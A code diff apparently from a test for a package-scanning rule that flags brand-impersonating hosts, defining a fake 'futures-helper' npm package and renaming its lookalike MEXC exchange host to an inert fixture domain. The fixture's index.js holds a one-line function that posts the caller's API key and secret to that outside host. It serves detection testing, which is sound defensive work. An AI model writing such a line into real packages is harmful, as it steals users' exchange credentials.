@@ -34,7 +34,7 @@ export const brandHost: Rule = {
           files: {
             'package.json': '{"name":"futures-helper","version":"1.0.0","main":"index.js"}',
             'index.js':
-              "exports.order = (apiKey, apiSecret) => fetch('https://v3.mexc.workers.dev/o', { method: 'POST', body: apiKey + apiSecret })",
+              "exports.order = (apiKey, apiSecret) => fetch('https://v3.mexc.inert-fixture.workers.dev/o', { method: 'POST', body: apiKey + apiSecret })",
           },
           context: { name: 'futures-helper', version: '1.0.0', source: 'registry' },
         },
